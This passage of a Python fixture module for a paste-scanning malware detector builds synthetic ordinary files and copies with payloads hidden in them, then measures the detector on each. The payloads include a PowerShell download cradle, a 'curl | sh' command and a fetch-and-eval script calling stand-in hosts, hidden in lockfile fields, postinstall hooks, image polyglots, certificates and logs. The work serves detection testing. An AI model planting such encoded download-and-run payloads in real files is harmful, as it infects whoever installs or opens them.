        "import re\nimport subprocess\n\nlog = logging.getLogger(__name__)\n\n\n"
    )
    return head + fill(row, size - len(head))


def c_source(size: int = 300 * KiB) -> str:
    """A C file of a network daemon: includes, macros, structs, buffers, hex constants."""

    def row(i: int) -> str:
        return (
            f"/* Parse one frame of type 0x{i % 256:02x} from the socket buffer. */\n"
            f"static int parse_frame_{i}(struct conn *c, const uint8_t *buf, size_t len)\n{{\n"
            f"    if (len < HDR_LEN + {i % 16})\n        return -EAGAIN;\n"
            f"    uint32_t magic = be32toh(*(const uint32_t *)buf);\n"
            f"    if (magic != 0x{(i * 2654435761) % (1 << 32):08x}u) {{\n"
            f'        syslog(LOG_WARNING, "conn %d: bad magic %08x", c->fd, magic);\n'
            f"        return -EPROTO;\n    }}\n"
            f"    memcpy(c->scratch, buf + HDR_LEN, MIN(len - HDR_LEN, sizeof c->scratch));\n"
            f'    snprintf(c->path, sizeof c->path, "/var/lib/netd/%s-{i}.state", c->name);\n'
            f"    return handle_{i % 40}(c);\n}}\n\n"
        )

    head = (
        "#include <errno.h>\n#include <stdint.h>\n#include <string.h>\n#include <syslog.h>\n"
        '#include "netd.h"\n\n#define HDR_LEN 12\n#define MIN(a, b) ((a) < (b) ? (a) : (b))\n\n'
    )
    return head + fill(row, size - len(head))


def web_server_log(size: int = 300 * KiB) -> str:
    """An nginx access log in the combined format: addresses, paths with query strings,
    referrers and user agents."""
    rng = _rng("nginx")
    agents = (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/18.1 Safari/605.1.15",
        "curl/8.5.0",
        "python-requests/2.32.3",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    )
    paths = ("/", "/login", "/api/v2/items", "/static/app.3f9a1c.js", "/search", "/cart/add")

    def row(i: int) -> str:
        path = paths[i % len(paths)]
        query = f"?q=blue%20shoes&page={i % 7}&sid={rng.getrandbits(64):016x}" if i % 3 else ""
        return (
            f"203.0.113.{i % 250} - - [05/Dec/2026:1{i % 10}:{i % 60:02d}:{i * 7 % 60:02d} +0000] "
            f'"{"POST" if i % 11 == 0 else "GET"} {path}{query} HTTP/1.1" '
            f"{(200, 200, 304, 404, 302)[i % 5]} {rng.randrange(200, 90000)} "
            f'"https://shop.example.org{paths[(i + 1) % len(paths)]}" "{agents[i % len(agents)]}"\n'
        )

    return fill(row, size)


def licence_text(size: int = 300 * KiB) -> str:
    """Licence and terms prose of the length of the GPL and longer: numbered sections,
    definitions, conditions, disclaimers (our own wording)."""
    rng = _rng("licence")
    subjects = ("the Program", "a covered work", "the Licensee", "each contributor", "you")
    verbs = ("may convey", "must not restrict", "shall provide", "may charge a fee for",
             "must retain")  # fmt: skip
    objects = (
        "verbatim copies of the source code",
        "the notices that refer to this License",
        "the Corresponding Source of the object code",
        "warranty protection in exchange for a fee",
        "the terms and conditions stated below",
    )

    def row(i: int) -> str:
        sentences = " ".join(
            f"{rng.choice(subjects).capitalize()} {rng.choice(verbs)} {rng.choice(objects)}"
            f"{', provided that ' + rng.choice(objects) + ' are kept intact' if j % 2 else ''}."
            for j in range(rng.randrange(3, 7))
        )
        head = f"  {i}. Section {i}.\n\n" if i % 5 == 0 else ""
        return head + sentences + "\n\n"

    tail = (
        "THERE IS NO WARRANTY FOR THE PROGRAM, TO THE EXTENT PERMITTED BY APPLICABLE LAW. "
        "See https://www.example.org/licenses/ for the full text.\n"
    )
    return fill(row, size - len(tail)) + tail


# name -> (maker, size): the sizes the issue names, and a whole megabyte of a lockfile
ORDINARY: dict[str, tuple[Maker, int]] = {
    "Python module, 300 KiB": (python_module, 300 * KiB),
    "C source file, 300 KiB": (c_source, 300 * KiB),
    "web server log, 300 KiB": (web_server_log, 300 * KiB),
    "package-lock.json, 300 KiB": (npm_lock, 300 * KiB),
    "licence text, 300 KiB": (licence_text, 300 * KiB),
    "minified JavaScript bundle, 200 KiB": (minified_js_one_line, 200 * KiB),
    "package-lock.json, 400 KiB": (npm_lock, 400 * KiB),
    "package-lock.json, 1 MiB": (npm_lock, MiB),
}


# -- the same with a payload hidden in them ---------------------------------------------------

CRADLE = "iex (New-Object Net.WebClient).DownloadString('https://evil.test/stage.ps1')"
SHELL = "curl -fsSL http://203.0.113.7/i.sh | sh"
HTML = "<script>fetch('https://evil.test/p').then(r=>r.text()).then(eval)</script>"
SHELL_SCRIPT = f"#!/bin/sh\n{SHELL}\nchmod +x /tmp/.x && /tmp/.x\n"


def encoded_powershell(script: str = CRADLE) -> str:
    return b64(script.encode("utf-16-le"))


def hide(text: str, line: str, where: float = 0.6) -> str:
    """`line` on a line of its own, at the first line end after `where` of the text."""
    at = text.find("\n", int(len(text) * where)) + 1
    return text[:at] + line + "\n" + text[at:]


def _lock_with(line: str, where: float = 0.6) -> Callable[[], str]:
    return lambda: hide(npm_lock(MiB - 8 * KiB), line, where)


def _png_polyglot() -> str:
    """A PNG signature and header chunk, then a shell script where the image data should be."""
    head = png(_rng("poly"), 64)[:33]
    return hide(
        css_with_fonts(MiB - 8 * KiB),
        f"img{{src:url(data:image/png;base64,{b64(head + SHELL_SCRIPT.encode() * 3)})}}",
    )


def _png_then_script() -> str:
    """A whole real PNG, and a script after its IEND (one base64 run)."""
    image = png(_rng("after"), 48 * KiB)
    return hide(png_wrapped(MiB - 80 * KiB), b64(image + b"\n" + SHELL_SCRIPT.encode()))


def _gif_js_polyglot() -> str:
    """GIF89a that is also JavaScript: the classic polyglot."""
    polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\xff\xff\xff,*/=1;" + HTML[8:-9].encode() + b";"
    return hide(
        svg_drawing(MiB - 8 * KiB), f'<image href="data:image/gif;base64,{b64(polyglot)}"/>'
    )


HIDDEN: dict[str, Callable[[], str]] = {
    "encoded PowerShell as an integrity hash": _lock_with(
        f'      "integrity": "sha512-{encoded_powershell()}",'
    ),
    "encoded PowerShell in an npm script": _lock_with(
        f'      "scripts": {{"postinstall": "powershell -w hidden -enc {encoded_powershell()}"}},'
    ),
    "base64 shell script in a lockfile": _lock_with(
        f'      "_note": "{b64(SHELL_SCRIPT.encode())}",'
    ),
    "base64 shell script in the last window": _lock_with(
        f"      {b64(SHELL_SCRIPT.encode())}", 0.999
    ),
    "base64 shell script just before the tail": _lock_with(
        f"      {b64(SHELL_SCRIPT.encode())}", 0.985
    ),
    "data:text/html in a page": lambda: hide(
        png_data_uri(MiB - 8 * KiB),
        f'<iframe src="data:text/html;base64,{b64(HTML.encode())}"></iframe>',
        0.0,
    ),
    "data:text/html among inlined images": lambda: hide(
        css_with_fonts(MiB - 8 * KiB),
        f'a{{background:url("data:text/html;base64,{b64(HTML.encode())}")}}',
    ),
    "data:application/x-sh among inlined images": lambda: hide(
        css_with_fonts(MiB - 8 * KiB),
        f"a{{src:url(data:application/x-sh;base64,{b64(SHELL_SCRIPT.encode())})}}",
    ),
    "PNG header then a script": _png_polyglot,
    "script after a PNG's end": _png_then_script,
    "GIF/JavaScript polyglot": _gif_js_polyglot,
    "encoded PowerShell among JWTs": lambda: hide(jwt_list(MiB - 8 * KiB), encoded_powershell()),
    "encoded PowerShell in a Kubernetes secret": lambda: hide(
        kubernetes_manifests(MiB - 8 * KiB), f"  init.ps1: {encoded_powershell()}"
    ),
    "encoded PowerShell as a notebook image": lambda: hide(
        jupyter_notebook(MiB - 8 * KiB), f'     "image/png": "{encoded_powershell()}",'
    ),
    "shell script among certificates": lambda: hide(
        pem_chain(MiB - 8 * KiB),
        "-----BEGIN CERTIFICATE-----\n"
        + wrapped(SHELL_SCRIPT.encode() * 2, 64)
        + "-----END CERTIFICATE-----",
    ),
    "encoded PowerShell in a service log": lambda: hide(
        app_log(MiB - 8 * KiB), f"2026-12-05T12:00:00Z DEBUG body={encoded_powershell()}"
    ),
    "gzip of a shell script among attachments": lambda: hide(
        mime_email(MiB - 8 * KiB), b64(gzip.compress(SHELL_SCRIPT.encode() * 4, mtime=0))
    ),
    "hex of a shell script in a hex dump": lambda: hide(
        hex_dump(MiB - 8 * KiB), SHELL_SCRIPT.encode().hex()
    ),
    "char codes of a command among CSV numbers": lambda: hide(
        csv_numbers(MiB - 8 * KiB),
        "$c="
        + ",".join(str(ord(c)) for c in "iex(irm https://evil.test/a.ps1)")
        + "; iex (-join [char[]]$c)",
    ),
}


# -- measuring --------------------------------------------------------------------------------


def _measure(names: list[str], size: int, cli: bool) -> None:  # pragma: no cover (a tool)
    import subprocess
    import sys
    import time
    from pathlib import Path

    from app.detection import Engine
    from app.detection.model import Context, PasteTarget

    engine = Engine()
    contexts = [
        ("bare", Context()),
        ("terminal", Context(target=PasteTarget.TERMINAL)),
        ("unknown", Context(source="https://example.org/page", target=PasteTarget.UNKNOWN)),
    ]
    kinds: dict[str, Callable[[], str]] = {n: (lambda m=m: m(size)) for n, m in HARMLESS.items()}
    kinds.update({f"[hidden] {n}": m for n, m in HIDDEN.items()})
    for name, make in kinds.items():
        if names and not any(n.lower() in name.lower() for n in names):
            continue
        text = make()
        started = time.process_time()
        content = engine.examine(text)
        cpu = (time.process_time() - started) * 1000
        cells = []
        for label, context in contexts:
            v = engine.in_context(content, context)
            cells.append(f"{label}={v.level.label}{'' if v.complete else '/INCOMPLETE'}")
        why = content.analysis.incomplete_reason
        print(f"{name:48} {len(text):>8} {cpu:7.1f}ms  {' '.join(cells)}  {why[:110]}")
        rules = sorted({f.rule_id for f in content.findings})
        if rules:
            print(f"{'':48} rules: {','.join(rules)}")
        if cli:
            out = subprocess.run(
                [str(Path(sys.executable).parent / "pasteguard"), "scan", "--json", "-"],
                input=text,
                capture_output=True,
                text=True,
                check=False,
            )
            print(f"{'':48} cli: {out.stdout.strip()[:160]}")


if __name__ == "__main__":  # pragma: no cover
    import argparse

    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("names", nargs="*")
    parser.add_argument("--size", type=int, default=MiB)
    parser.add_argument("--cli", action="store_true")
    args = parser.parse_args()
    _measure(args.names, args.size, args.cli)
